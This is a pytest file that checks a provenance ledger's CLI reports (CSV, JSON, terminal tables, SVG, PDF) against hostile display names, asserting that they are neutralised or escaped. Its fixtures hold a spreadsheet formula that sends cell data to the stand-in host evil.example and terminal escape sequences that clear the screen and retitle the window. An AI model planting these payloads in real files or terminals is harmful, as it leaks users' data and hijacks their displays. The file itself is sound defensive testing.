"""Reports survive whatever text signed events carry (issue 12 §4).

A real signed SQLite ledger whose events name people with a spreadsheet formula, terminal
escape sequences, a carriage return, CJK characters and a 1,000-character name, then every
output that shows names: CSV, JSON, the terminal tables, the SVG, the PDFs.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from cli.main import cli
from ledger.audit.text import display_width
from tests.ledger.audit.audit_factory import (
    before_text_rules,
    build_store,
    ingredient,
    provenance,
)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
ESCAPES = "\x1b[2J\x1b]0;pwned\x07Mallory\rEve"
CJK = "山田太郎"
LONG = "W" * 1000
A = "fallen-tower/ep101/sq900"


def _person(name: str, actor_id: str) -> dict[str, Any]:
    return {"actor_id": actor_id, "kind": "human", "display_name": name, "role": "cawg.creator"}


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = tmp_path_factory.mktemp("hostile") / "ledger.db"
    items = [
        provenance(f"{A}/plate", actor=_person(FORMULA, "person:formula")),
        provenance(
            f"{A}/roto",
            actor=_person(ESCAPES, "person:escapes"),
            ingredients=[ingredient(f"{A}/plate", "v001", "parentOf")],
        ),
        provenance(f"{A}/paint", actor=_person(CJK, "person:cjk")),
        provenance(
            f"{A}/comp",
            actor=_person(LONG, "person:long"),
            rights={"licence": "L" * 5000},
            ingredients=[ingredient(f"{A}/roto", "v001"), ingredient(f"{A}/paint", "v001")],
        ),
        provenance(
            f"{A}/sky",
            ai=True,
            model={
                "name": "M" * 1000,
                "version": "1",
                "provider": "P" * 1000,
                "licence": None,
                "training_data": None,
            },
        ),
        provenance(
            f"{A}/grade",
            actor=_person("-2+3", "person:minus"),
            ingredients=[
                ingredient(f"{A}/comp", "v001", "parentOf"),
                ingredient(f"{A}/sky", "v001"),
            ],
        ),
    ]
    with before_text_rules():  # names with ESC, BEL and CR are refused since issue 10 §2
        build_store(path, items).close()
    return str(path)


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result
    return result.exit_code, result.stdout, result.stderr


def credits(ledger: str, *args: str) -> tuple[int, str, str]:
    return run("credits", "--production", "Fallen Tower", "--ledger", ledger, *args)


def test_credits_csv_neutralises_formulas_and_keeps_a_cr_inside_its_cell(ledger: str) -> None:
    code, out, _ = credits(ledger, "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    names = {r["name"] for r in rows if r["section"] == "credit"}
    assert "'" + FORMULA in names  # shown as text by spreadsheets, never evaluated
    assert "'-2+3" in names
    assert ESCAPES in names  # one cell, CR and all: no extra row
    assert not any(r["name"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)
    assert all(len(r) == len(rows[0]) and None not in r for r in rows)


def test_credits_json_keeps_exact_values(ledger: str) -> None:
    code, out, _ = credits(ledger, "--format", "json")
    assert code == 0
    text = json.dumps(json.loads(out))
    for name in (FORMULA, ESCAPES, CJK, LONG):
        assert json.dumps(name)[1:-1] in text


def test_terminal_outputs_escape_control_characters(ledger: str) -> None:
    outputs = [
        credits(ledger)[1],
        run("log", "--ledger", ledger)[1],
        run("audit", "lineage", f"{A}/grade@v001", "--ledger", ledger)[1],
        run("audit", "lineage", f"{A}/plate@v001", "--descendants", "--ledger", ledger)[1],
    ]
    for out in outputs:
        assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert "\\x1b[2J\\x1b]0;pwned\\x07Mallory\\rEve" in outputs[0]
    assert "Mallory" in outputs[1] and "\\x1b" in outputs[1]


def test_credits_table_pads_by_display_width(ledger: str) -> None:
    _, out, _ = credits(ledger)
    lines = out.split("\n")
    header = next(i for i, line in enumerate(lines) if line.startswith("NAME"))
    table = lines[header : lines.index("", header)]
    title_column = display_width(table[0][: table[0].index("TITLE")])
    titles = [_at_display_column(line, title_column) for line in table[1:]]
    # names of every width, CJK too: TITLE is found by display width; the five people show
    # the title the HTML credits print (no CAWG role id), and the sky's director AI Direction
    people = [t for t in titles if re.match(r"Creator \(no job title recorded\)  Other  +1 ", t)]
    direction = [t for t in titles if re.match(r"AI Direction  +AI Direction  +0 ", t)]
    assert (len(people), len(direction), len(titles)) == (5, 1, 6), titles


def _at_display_column(line: str, column: int) -> str:
    """What ``line`` shows from display column ``column`` on."""
    for i in range(len(line) + 1):
        if display_width(line[:i]) >= column:
            return line[i:]
    return ""


def test_lineage_svg_is_valid_xml(ledger: str) -> None:
    code, out, _ = run(
        "audit", "lineage", f"{A}/plate@v001", "--descendants", "--format", "svg",
        "--ledger", ledger,
    )  # fmt: skip
    assert code == 0
    ET.fromstring(out)  # raises on a control character


@pytest.mark.parametrize(
    "args",
    [
        ("credits", "--production", "Fallen Tower"),
        ("audit", "report", "--production", "Fallen Tower", "--fail-on", "never"),
    ],
)
def test_pdf_reports_lay_out_long_values(ledger: str, tmp_path: Path, args: tuple[str]) -> None:
    out = tmp_path / "r.pdf"
    code, _, err = run(*args, "--format", "pdf", "-o", str(out), "--ledger", ledger)
    assert code == 0, err
    assert out.read_bytes().startswith(b"%PDF-")


def test_error_messages_quoting_input_escape_it(ledger: str) -> None:
    code, _, err = run("audit", "lineage", "no/such\x1b[2J\x07asset", "--ledger", ledger)
    assert code == 2 and "not in the ledger" in err
    assert "\x1b" not in err and "\\x1b[2J\\x07" in err


def test_keys_show_escapes_the_name_a_registry_entry_gives(tmp_path: Path) -> None:
    """A ledger written before the text rules may enrol a name holding terminal escapes: the
    first line of ``keys show`` printed it raw (ESC [2J clears the auditor's screen)."""
    from datetime import UTC, datetime

    from ledger.events.keyregistry import KEY_REGISTRY
    from ledger.store import open_store
    from ledger.trust import keys
    from ledger.trust.records import enroll_event
    from ledger.trust.registry import RootKey
    from ledger.trust.replay import set_roots
    from tests.portal.portal_factory import append

    root, mallory = keys.generate("root"), keys.generate("mallory")
    when = datetime(2025, 3, 1, tzinfo=UTC)
    event = enroll_event("person:mallory", "human", ESCAPES, mallory.public, event_time=when)
    path = tmp_path / "registry.db"
    with open_store(str(path)) as store, before_text_rules():
        set_roots(store, [RootKey("root", root.public)])
        append(store, [("root", KEY_REGISTRY, event)], {"root": root})
    result = CliRunner().invoke(
        cli, ["keys", "show", "person:mallory", "--ledger", str(path)], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    first = result.stdout.splitlines()[0]
    assert "\x1b" not in result.stdout and "\r" not in result.stdout and "\x07" not in first
    assert first.endswith("\\x1b[2J\\x1b]0;pwned\\x07Mallory\\rEve"), first
